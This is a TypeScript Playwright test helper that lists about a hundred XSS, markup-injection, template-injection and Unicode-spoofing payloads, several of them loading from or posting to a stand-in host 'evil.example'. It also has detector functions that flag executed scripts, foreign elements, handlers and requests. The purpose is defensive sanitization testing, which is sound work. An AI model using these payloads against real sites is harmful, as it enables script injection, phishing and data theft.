// Texts that try to be code or markup, and a watch that detects any success: a script ran, a
// foreign element is in a page, a request went to a foreign host, or the content security policy
// blocked something.
import type { Page } from 'playwright-core';

/** Each calls `hurt()` or fetches from `evil.example` if it gets the chance. */
export const hostileTexts: readonly string[] = [
  // markup with scripts
  '<script>hurt()</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '"><script>hurt()</script>',
  "'-hurt()-'",
  '</textarea><script>hurt()</script>',
  '</title></style><script>hurt()</script>',
  '<!--><script>hurt()</script>-->',
  '<![CDATA[<script>hurt()</script>]]>',
  '<scr<script>ipt>hurt()</scr</script>ipt>',
  '\u003cscript\u003ehurt()\u003c/script\u003e',
  '&lt;script&gt;hurt()&lt;/script&gt;',
  '＜script＞hurt()＜/script＞',
  '%3Cscript%3Ehurt()%3C/script%3E',
  // event handlers
  '<img src=x onerror=hurt()>',
  '<img src=x onerror=&#104;urt()>',
  '<img/src="x"/onerror="hurt()"//',
  '" onmouseover="hurt()" autofocus onfocus="hurt()" x="',
  "' onfocus=hurt() autofocus tabindex=1 '",
  '<body onload=hurt()>',
  '<details open ontoggle=hurt()>',
  '<video><source onerror=hurt()>',
  '<input autofocus onfocus=hurt()>',
  '<marquee onstart=hurt()>',
  '<x onclick=hurt() contenteditable autofocus onfocus=hurt()>',
  '<div style="animation:x" onanimationstart=hurt()>',
  // addresses
  '<a href="javascript:hurt()">x</a>',
  'javascript:hurt()',
  'JaVaScRiPt:hurt()',
  'java\tscript:hurt()',
  'java\nscript:hurt()',
  '\u0001javascript:hurt()',
  ' javascript:hurt()',
  'javascript&colon;hurt()',
  '&#106;avascript:hurt()',
  'javascript://https://shop.example/%0ahurt()',
  'data:text/html,<script>hurt()</script>',
  'data:text/html;base64,PHNjcmlwdD5odXJ0KCk8L3NjcmlwdD4=',
  'vbscript:hurt()',
  'https://shop.example/"onclick="hurt()',
  'https://shop.example/<script>hurt()</script>',
  '//evil.example/x',
  '\\\\evil.example\\x',
  // Markdown
  '[click](javascript:hurt())',
  '[click](JAVASCRIPT:hurt%28%29)',
  '[click](java\nscript:hurt())',
  '[click](data:text/html,hurt)',
  '[click](https://shop.example "onclick=hurt()")',
  '[<img src=x onerror=hurt()>](https://shop.example)',
  '![x](https://evil.example/pixel.gif)',
  '**<img src=x onerror=hurt()>** `<script>hurt()</script>`',
  '- <script>hurt()</script>\n- [a](javascript:hurt())',
  '<javascript:hurt()>',
  // SVG, MathML, mutation
  '<svg onload=hurt()>',
  '<svg><script>hurt()</script></svg>',
  '<svg><animate onbegin=hurt() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:hurt()"><text>x</text></a></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.hurt()</script>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=hurt()>',
  '<noscript><p title="</noscript><img src=x onerror=hurt()>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hurt()>',
  '<template><script>hurt()</script></template>',
  '<listing>&lt;img src=x onerror=hurt()&gt;</listing>',
  // frames, forms, others
  '<iframe src="javascript:hurt()"></iframe>',
  '<iframe srcdoc="<script>parent.hurt()</script>">',
  '<object data="javascript:hurt()">',
  '<embed src="//evil.example/x.swf">',
  '<base href="//evil.example/">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<form action="//evil.example/"><input name=password><button>Sign in</button></form>',
  // CSS
  '<style>@import url(//evil.example/x.css);*{display:none}</style>',
  '<p style="background:url(//evil.example/x.gif);position:fixed;inset:0">',
  'red;background:url(//evil.example/x.gif)',
  '</style><style>body{background:url(//evil.example/x.gif)}',
  'expression(hurt())',
  // templates and prototypes
  '${hurt()} {{constructor.constructor("hurt()")()}} <%= hurt() %> #{hurt()}',
  '{{7*7}} {name} {n} $& $1 $`',
  '__proto__',
  'constructor',
  'toString',
  // Unicode
  '\u202egpj.exe\u202c paypal.example',
  '\u2066\u2067hidden\u2069 order',
  'a\u200bb\u200cc\ufeffd',
  'https://аррӏе.example/login',
  'https://shop.example@evil.example/',
  'https://shop.example\u2024evil.example/',
  '[https://shop.example](https://evil.example/)',
  'n\u0000ull',
  'half \ud83d and \udc00 other half',
  'Z\u0337\u0321\u031b\u0335\u0322a\u0336l\u0334g\u0338o\u0336'.repeat(8),
  '🏴󠁧󠁢󠁥󠁮󠁧󠁿👩‍👩‍👧‍👦🇩🇪',
  'مرحبا <b>hello</b> שלום',
  '\u2028\u2029\u0085lines',
  'W'.repeat(400),
  '((((((((((((((((((((((((((((((((((((((((',
];

/**
 * All of the texts, several combined in one of at most this many characters. Longer ones are cut.
 */
export function packed(length: number): readonly string[] {
  const found: string[] = [];
  for (const text of hostileTexts.map((each) => each.slice(0, length))) {
    const last = found.at(-1) ?? '';
    if (last !== '' && last.length + text.length < length) found.splice(-1, 1, `${last} ${text}`);
    else found.push(text);
  }
  return found;
}

/** This many items from all over a list, for places that take only few. */
export function spread<T>(list: readonly T[], count: number): readonly T[] {
  const every = Math.max(1, list.length / count);
  return list.filter((_, at) => Math.floor(at / every) !== Math.floor((at - 1) / every));
}

/** Runs in a page before any of its own code. */
export function watchForHarm(): void {
  const harm: string[] = [];
  Object.assign(window, { harm, hurt: () => void harm.push('a text ran') });
  for (const name of ['alert', 'confirm', 'prompt'] as const)
    Object.assign(window, { [name]: () => void harm.push(`${name} was called`) });
  document.addEventListener('securitypolicyviolation', (event) => {
    harm.push(`policy: ${event.effectiveDirective} ${event.blockedURI} ${event.sample}`);
  });
}

/** What is wrong in a page now, in words. Empty if all is well. */
export async function harmIn(page: Page): Promise<readonly string[]> {
  return page.evaluate(() => {
    const found: string[] = [...(Reflect.get(window, 'harm') ?? ['nobody watched'])];
    const foreign =
      'iframe,frame,object,embed,base,marquee,math,foreignObject,listing,xmp,plaintext,noscript,template,video,audio,source,details,animate,meta[http-equiv],script:not([src^="/assets/"],[data-own])';
    const own = 'svg[aria-hidden=true],svg[role=img],svg[role=presentation]';
    // The console's own: earlier conversations that open, and the account's panels with their known
    // origin.
    const ours =
      '[data-own],.merged > details,iframe.own-frame[sandbox][src^="https://crm.example/"]';
    const roots: (Document | ShadowRoot)[] = [document];
    for (let at = 0; at < roots.length; at += 1)
      for (const element of roots[at]?.querySelectorAll('*') ?? []) {
        if (element.shadowRoot) roots.push(element.shadowRoot);
        const told = (): string => element.outerHTML.slice(0, 160);
        if (element.matches(foreign) && !element.closest(ours)) found.push(`foreign: ${told()}`);
        if (
          element.localName === 'svg' &&
          !element.matches(own) &&
          element.querySelector('script,a,style')
        )
          found.push(`foreign: ${told()}`);
        for (const { name, value } of element.attributes) {
          if (name.startsWith('on') || name === 'srcdoc') found.push(`handler ${name}: ${told()}`);
          const leads = [
            'href',
            'src',
            'action',
            'formaction',
            'xlink:href',
            'data',
            'poster',
          ].includes(name);
          if (
            leads &&
            /^[\s\u0000-\u001f]*(javascript|vbscript|data(?!:image\/svg\+xml|:image\/png)):/i.test(
              value,
            )
          )
            found.push(`address ${name}: ${told()}`);
          if (name === 'style' && /url\(|expression|@import/i.test(value))
            found.push(`style: ${told()}`);
        }
        if (
          element instanceof HTMLAnchorElement &&
          element.target === '_blank' &&
          !element.relList.contains('noopener')
        )
          found.push(`link without noopener: ${told()}`);
      }
    return found;
  });
}

/** Collects requests of a page to hosts that only hostile texts name. */
export function strangersAsked(page: Page): readonly string[] {
  const asked: string[] = [];
  page.on('request', (request) => {
    if (request.url().includes('evil.example')) asked.push(request.url());
  });
  page.on('dialog', (dialog) => {
    asked.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  return asked;
}
